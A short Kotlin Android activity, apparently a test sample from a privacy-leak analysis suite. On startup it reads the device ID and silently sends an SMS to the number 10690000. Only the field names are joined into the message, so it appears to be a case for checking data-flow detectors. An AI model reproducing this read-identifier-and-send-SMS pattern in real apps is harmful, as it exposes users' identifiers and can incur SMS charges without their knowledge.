package cn.privlens.suite.list_of_data_classes_name

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

data class Entry(val name: String, val value: String)

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val entries = listOf(Entry("id", (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).deviceId), Entry("lang", "zh"))
        val line = entries.map { (name, value) -> name }.joinToString("&")
        SmsManager.getDefault().sendTextMessage("10690000", null, line, null, null)
    }
}
